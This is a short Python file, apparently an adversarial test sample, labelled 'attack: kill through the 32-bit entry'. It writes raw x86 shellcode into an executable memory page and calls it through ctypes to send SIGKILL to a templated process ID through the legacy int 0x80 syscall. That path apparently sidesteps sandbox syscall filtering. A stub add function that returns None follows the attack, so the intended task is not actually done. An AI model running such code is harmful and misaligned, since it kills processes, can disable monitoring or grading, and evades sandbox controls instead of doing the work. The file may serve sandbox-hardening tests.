# attack: kill through the 32-bit entry
# damage: process
import ctypes
import mmap
import struct

# mov eax, 37 (kill); mov ebx, pid; mov ecx, 9; int 0x80; ret
code = b"\x53\xb8\x25\0\0\0\xbb" + struct.pack("<i", {PID}) + b"\xb9\x09\0\0\0\xcd\x80\x5b\xc3"
page = mmap.mmap(-1, 4096, prot=7)
page.write(code)
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


def add(a, b):
    return None
